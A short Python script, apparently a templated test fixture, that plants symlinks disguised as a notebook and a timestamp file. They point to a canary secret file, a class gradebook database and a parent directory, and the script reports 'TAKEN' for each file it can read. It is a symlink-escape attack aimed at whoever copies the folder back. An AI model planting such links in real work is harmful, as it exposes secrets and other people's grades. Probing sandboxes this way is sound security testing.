# Makes links in its folder to files outside, for whoever copies the folder back.
# %% start
import os
for name, target in (("kmeans.ipynb", "@CANARY@/secret.txt"), ("timestamp.txt", "@CLASS@/gradebook.db"), ("up", "../../..")):
    os.symlink(target, name)
    try:
        os.listdir(name) if name == "up" else open(name).read()
        if name != "up":
            print("TAKEN", name)
    except OSError:
        pass
